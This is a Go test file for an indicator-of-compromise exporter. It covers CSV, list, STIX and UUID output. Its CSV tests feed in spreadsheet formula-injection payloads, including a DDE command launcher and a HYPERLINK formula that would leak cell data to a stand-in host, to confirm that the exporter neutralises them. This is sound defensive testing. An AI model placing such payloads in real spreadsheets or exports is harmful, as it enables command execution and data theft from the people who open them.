package iocs

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cordon-isao/cordon/formats/stix"
	"github.com/cordon-isao/cordon/formats/stix/pattern"
)

// formulas are 400 cells and more: every trigger, alone and before what
// spreadsheets compute, after space, wide, after apostrophes, with separators.
func formulas() (cells []string) {
	bodies := []string{"", "1+1", "cmd|'/C calc'!A0", `HYPERLINK("http://evil.example?"&A1,"x")`, "SUM(A1:A9)*1", "DDE(\"a\",\"b\")", "-2+3", "@x", " 1", "a,b", "a;b\tc", "a\"b\"\"", "a\r\nb", "ünïcode"}
	fronts := []string{"=", "+", "-", "@", "\t", "\r", "\x00", "|", "%", "\n", " =", "  +", "\u00a0=", "\ufeff=", "\u200b@", "＝", "＋", "－", "＠", "'=", "''=", "'", "x=", "", "\t=", "=\t", "\r\n=", "'-", "\" =", ",=", ";="}
	for _, f := range fronts {
		for _, b := range bodies {
			cells = append(cells, f+b)
		}
	}
	return cells
}

// T-51: no cell becomes a formula, and all are read back as they were.
func TestCSVFormulas(t *testing.T) {
	cells := formulas()
	if len(cells) < 400 {
		t.Fatalf("there are %d cells only", len(cells))
	}
	var rows [][]string
	for i := 0; i < len(cells); i += 4 {
		rows = append(rows, cells[i:min(i+4, len(cells))])
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, []string{"=a", "b", "c", "d"}, slices.Values(rows)); err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(bytes.ReplaceAll(b.Bytes(), []byte("\r\n"), nil), []byte("\r\n")) || !bytes.HasSuffix(b.Bytes(), []byte("\r\n")) {
		t.Error("rows do not end in CR LF")
	}

	// Our own splitter gives back the very cells; no line is cut, as cells hold line ends.
	records := splitAll(t, b.String(), ',')
	if len(records) != len(rows)+1 {
		t.Fatalf("%d records of %d", len(records), len(rows)+1)
	}
	for i, record := range records[1:] {
		for j, cell := range record {
			if strings.ContainsRune("=+-@|%\t\r\n\x00＝＋－＠", []rune(cell + "x")[0]) || strings.HasPrefix(strings.TrimSpace(cell), "=") {
				t.Errorf("%q stands in the file as %q", rows[i][j], cell)
			}
			if Uncell(cell) != rows[i][j] {
				t.Errorf("%q comes back as %q", rows[i][j], Uncell(cell))
			}
		}
	}
	// Another program's reader (encoding/csv reads CR LF in a cell as LF).
	theirs := csv.NewReader(bytes.NewReader(b.Bytes()))
	theirs.FieldsPerRecord = -1
	got, err := theirs.ReadAll()
	if err != nil || len(got) != len(rows)+1 {
		t.Fatalf("%d rows, %v", len(got), err)
	}
	for i, record := range got[1:] {
		for j, cell := range record {
			if want := strings.ReplaceAll(Cell(rows[i][j]), "\r\n", "\n"); cell != want {
				t.Errorf("encoding/csv reads %q, not %q", cell, want)
			}
		}
	}
	// A spreadsheet that parts at semicolons or tabs must find no new cell with a formula.
	for _, separator := range []byte{';', '\t'} {
		var c bytes.Buffer
		_ = WriteCSV(&c, nil, slices.Values([][]string{{"a;=1"}, {"b\t=2"}}))
		for _, record := range splitAll(t, c.String(), separator) {
			for _, cell := range record {
				if strings.HasPrefix(cell, "=") {
					t.Errorf("parted at %q, %q is a cell", separator, cell)
				}
			}
		}
	}
}

// splitAll reads CSV strictly by RFC 4180, keeping line ends inside cells.
func splitAll(t *testing.T, text string, separator byte) (records [][]string) {
	t.Helper()
	for len(text) > 0 {
		end, quoted := -1, false
		for i := 0; i < len(text) && end < 0; i++ {
			switch {
			case text[i] == '"':
				quoted = !quoted
			case !quoted && strings.HasPrefix(text[i:], "\r\n"):
				end = i
			}
		}
		fields, open, reason := split([]byte(text[:end]), separator)
		if open || reason != "" {
			t.Fatalf("%q: %s", text[:end], reason)
		}
		records, text = append(records, fields), text[end+2:]
	}
	return records
}

func TestWriteList(t *testing.T) {
	var b bytes.Buffer
	if err := WriteList(&b, slices.Values([]string{"evil.example", "198.51.100.7"})); err != nil || b.String() != "evil.example\n198.51.100.7\n" {
		t.Errorf("%q, %v", b.String(), err)
	}
	for _, bad := range []string{"", "a\nb", "a\x00"} {
		if err := WriteList(&b, slices.Values([]string{bad})); err == nil {
			t.Errorf("%q is written", bad)
		}
	}
}

// What is exported is imported as it was.
func TestRowRoundTrip(t *testing.T) {
	var rows []Row
	for i, v := range []string{"198.51.100.7", "198.51.100.0/24", "evil.example", "http://evil.example/a,b\";'=", "bad@evil.example", strings.Repeat("a", 64), `C:\x\a.exe`, "AS64500", "CVE-2024-12345", `HKEY_USERS\x`} {
		typ, value, err := Detect(v)
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, Row{Line: i + 2, Type: typ, Value: value, Pattern: Pattern(typ, value), Name: "=name", Description: "+a; \"b\"", Confidence: i*10 - 1 + i/9, TLP: "AMBER+STRICT",
			ValidFrom: day("2026-01-01"), ValidUntil: day("2027-01-01"), FirstSeen: day("2026-01-01"), LastSeen: day("2026-01-02"), Labels: []string{"@x", "y"}, Reference: "-feed", KillChain: []Phase{{"a", "b"}}})
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, CSVHeader(), func(yield func([]string) bool) {
		for _, r := range rows {
			if !yield(r.CSV()) {
				return
			}
		}
	}); err != nil {
		t.Fatal(err)
	}
	got, bad, _ := readAll(t, &b, Options{})
	if d := cmp.Diff(rows, got); d != "" || len(bad) > 0 {
		t.Errorf("%v (-want +got):\n%s", bad, d)
	}
}

// Each row becomes an object that the strict STIX parser takes, under an id
// that depends on source and pattern alone.
func TestSTIX(t *testing.T) {
	now := day("2026-03-02T01:01:01.123Z")
	o := STIXOptions{Source: "feed.example", CreatedBy: "identity--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", Marking: stix.MarkingID}
	var text strings.Builder
	text.WriteString("value,name,comment,confidence,tlp,valid_until,tags,source,kill_chain\n")
	for _, v := range []string{"198.51.100.7", "2001:db8::1", "198.51.100.0/24", "198.51.100.7:443", "evil.example", "http://evil.example/it's", "bad@evil.example", strings.Repeat("a", 32), strings.Repeat("a", 40),
		strings.Repeat("a", 56), strings.Repeat("a", 64), strings.Repeat("a", 128), "a.exe", `C:\x\a.exe`, "00:1b:44:11:3a:b7", "AS64500", `HKLM\x`, `Global\m`, "CVE-2024-12345"} {
		fmt.Fprintf(&text, "%s,N,C,50,GREEN,2027-01-01,t,https://feed.example/x,c2\n", v)
	}
	rows, bad, _ := readAll(t, strings.NewReader(text.String()), Options{})
	if len(bad) > 0 {
		t.Fatal(bad)
	}
	ids := map[string]bool{}
	for _, r := range rows {
		raw, err := r.STIX(now, o)
		if err != nil {
			t.Errorf("%s: %v", r.Value, err)
			continue
		}
		obj, err := stix.Parse(raw)
		if err != nil {
			t.Errorf("%s: %v\n%s", r.Value, err, raw)
			continue
		}
		if r.Type != CVE {
			if _, err := pattern.Parse(obj.Pattern); err != nil {
				t.Errorf("%s: %v", obj.Pattern, err)
			}
		}
		again, _ := r.STIX(now.Add(time.Hour), STIXOptions{Source: o.Source, Marking: stix.MarkingID})
		other, _ := r.STIX(now, STIXOptions{Source: "another.example", Marking: stix.MarkingID})
		a, _ := stix.Parse(again)
		b, _ := stix.Parse(other)
		if obj.ID != a.ID || obj.ID == b.ID || ids[obj.ID] {
			t.Errorf("%s: the ids are %s, %s, %s", r.Value, obj.ID, a.ID, b.ID)
		}
		ids[obj.ID] = true
		want := "indicator"
		if r.Type == CVE {
			want = "vulnerability"
		}
		if obj.Type != want || obj.Pattern != r.Pattern || obj.Confidence != 50 || !slices.Equal(obj.Markings, []string{stix.MarkingID("GREEN")}) || !slices.Equal(obj.Labels, []string{"t"}) {
			t.Errorf("%s becomes %s", r.Value, raw)
		}
	}
	const least = `{"type":"indicator","spec_version":"2.1","id":"indicator--%s","created":"2026-01-01T00:00:00.000Z","modified":"2026-03-02T01:01:01.123Z",` +
		`"name":"evil.example","pattern":"[domain-name:value = 'evil.example']","pattern_type":"stix","pattern_version":"2.1","valid_from":"2026-03-02T01:01:01.123Z"}`
	r := Row{Type: Domain, Value: "evil.example", Pattern: Pattern(Domain, "evil.example"), Confidence: -1}
	raw, err := r.STIX(now, STIXOptions{Source: "feed.example", Created: day("2026-01-01")})
	if want := fmt.Sprintf(least, sourceUUID("feed.example", r.Pattern)); err != nil || string(raw) != want {
		t.Errorf("%v\n%s\n%s", err, raw, want)
	}
}

// T-07: a row's label is never lost on the way.
func TestSTIXKeepsLabel(t *testing.T) {
	r := Row{Line: 2, Type: Domain, Value: "evil.example", Pattern: "[domain-name:value = 'evil.example']", TLP: "RED", Confidence: -1}
	for _, marking := range []func(string) string{nil, func(string) string { return "" }} {
		if raw, err := r.STIX(day("2026-03-02"), STIXOptions{Marking: marking, Markings: []string{stix.MarkingID("CLEAR")}}); err == nil {
			t.Errorf("without its marking it becomes %s", raw)
		}
	}
	raw, err := r.STIX(day("2026-03-02"), STIXOptions{Marking: stix.MarkingID, Markings: []string{stix.MarkingID("CLEAR")}})
	if err != nil || !bytes.Contains(raw, []byte(stix.MarkingID("RED"))) {
		t.Errorf("%s, %v", raw, err)
	}
	r.ValidUntil = day("2020-01-01")
	if _, err := r.STIX(day("2026-03-02"), STIXOptions{Marking: stix.MarkingID}); err == nil {
		t.Error("it is valid until before it is valid")
	}
}

// RFC 9562 §5.5: UUIDs by name. The vector is that of appendix A.4.
func TestUUID5(t *testing.T) {
	dns := [16]byte{0x6b, 0xa7, 0xb8, 0x10, 0x9d, 0xad, 0x11, 0xd1, 0x80, 0xb4, 0x00, 0xc0, 0x4f, 0xd4, 0x30, 0xc8}
	if got := fmt.Sprintf("%x", uuid5(dns, "www.example.com")); got != "2ed6657de927568b95e12665a8aea6a2" {
		t.Errorf("it is %s", got)
	}
}

func FuzzCell(f *testing.F) {
	for _, s := range formulas()[:60] {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := Cell(s)
		if Uncell(cell) != s {
			t.Errorf("%q comes back as %q", s, Uncell(cell))
		}
		if risky(cell) {
			t.Errorf("%q stands as %q", s, cell)
		}
	})
}
